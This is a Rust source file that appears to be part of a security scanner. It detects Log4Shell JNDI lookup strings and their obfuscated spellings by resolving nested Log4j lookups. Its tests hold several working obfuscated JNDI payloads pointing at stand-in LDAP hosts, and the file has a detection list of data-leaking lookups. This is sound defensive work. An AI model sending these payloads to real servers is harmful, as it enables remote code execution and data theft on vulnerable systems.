//! JNDI lookups (Log4Shell, CVE-2021-44228) and their obfuscation. Log4j resolves `${…}` lookups
//! from the inside out, and several lookups return a piece of their own text (`${lower:j}`,
//! `${upper:J}`, `${::-j}`, `${env:NONE:-j}`, `${date:'j'}`), so `${${lower:j}ndi:…}` is
//! `${jndi:…}`. Rather than listing spellings, this resolves those lookups the way Log4j does — a
//! single pass with a stack bounded in depth, so linear — and then looks for a `jndi:` lookup.

use super::{push, Category, Rule, CRITICAL, WARNING};

pub const JNDI_LOOKUP: Rule = Rule::new("jndi-lookup", Category::Jndi, CRITICAL, 1);
/// Lookups nested deeper than any honest template: itself an obfuscation signal.
pub const DEEP_NESTING: Rule = Rule::new("jndi-deep-nesting", Category::Jndi, CRITICAL, 1);
/// `${env:…}`, `${sys:…}`: data-leaking lookups, used inside JNDI host names.
pub const INFO_LOOKUP: Rule = Rule::new("jndi-info-lookup", Category::Jndi, WARNING, 2);

const MAX_DEPTH: usize = 8;

/// What a lookup with this body resolves to, when it only returns (part of) its own text.
fn resolve(body: &str) -> Option<String> {
    // `${anything:-default}` yields the default when `anything` is unset — the attacker's
    // choice. `${::-j}` is the bare form.
    if let Some((_, default)) = body.split_once(":-") {
        return Some(default.to_string());
    }
    for p in ["lower:", "upper:"] {
        if let Some(rest) = body.strip_prefix(p) {
            return Some(rest.to_string());
        }
    }
    if let Some(rest) = body.strip_prefix("date:") {
        return Some(rest.trim_matches(['\'', '"']).to_string());
    }
    None
}

pub fn detect(s: &str, out: &mut Vec<Rule>) {
    if !s.contains("${") {
        return;
    }
    // stack[0] is the top-level text; each `${` opens a new level, each `}` closes one.
    let mut stack: Vec<String> = vec![String::new()];
    let mut chars = s.chars().peekable();
    let mut deep = false;
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'{') {
            chars.next();
            if stack.len() > MAX_DEPTH {
                deep = true;
                break;
            }
            stack.push(String::new());
            continue;
        }
        if c == '}' && stack.len() > 1 {
            let body = stack.pop().unwrap_or_default();
            let text = match resolve(&body) {
                Some(t) => t,
                None => format!("${{{body}}}"),
            };
            if let Some(parent) = stack.last_mut() {
                parent.push_str(&text);
            }
            continue;
        }
        if let Some(top) = stack.last_mut() {
            top.push(c);
        }
    }
    if deep {
        push(out, DEEP_NESTING);
    }
    // Unclosed levels still count: `${jndi:ldap://x` may be cut by a length limit.
    let resolved: String = stack.concat();
    let compact: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.contains("${jndi:") || compact.contains("jndi:") && stack.len() > 1 {
        push(out, JNDI_LOOKUP);
    }
    for info in [
        "${env:",
        "${sys:",
        "${java:",
        "${ctx:",
        "${main:",
        "${k8s:",
        "${docker:",
    ] {
        if compact.contains(info) {
            push(out, INFO_LOOKUP);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::rule_ids;
    use super::*;

    #[test]
    fn obfuscated_lookups_resolve() {
        for h in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://e.example/x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/z}",
            "${${env:nan:-j}ndi${env:nan:-:}ldap://x.example/a}",
            "${${upper:j}${upper:n}di:iiop://e.example/}",
            "${j${k8s:k5:-nd}i:ldaps://e.example/a}",
            "${${date:'j'}${date:'n'}di:ldap://x.example}",
            "${jndi:ldap://x.example/a",
        ] {
            assert!(rule_ids(detect, h).contains(&"jndi-lookup"), "{h}");
        }
        for ok in [
            "${home} is your home directory",
            "price: ${amount}",
            "${user:-guest}",
            "jndi: the java naming and directory interface",
        ] {
            assert!(rule_ids(detect, ok).is_empty(), "{ok}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        let s = "${".repeat(10_000) + "x" + &"}".repeat(10_000);
        assert_eq!(rule_ids(detect, &s), vec!["jndi-deep-nesting"]);
    }
}
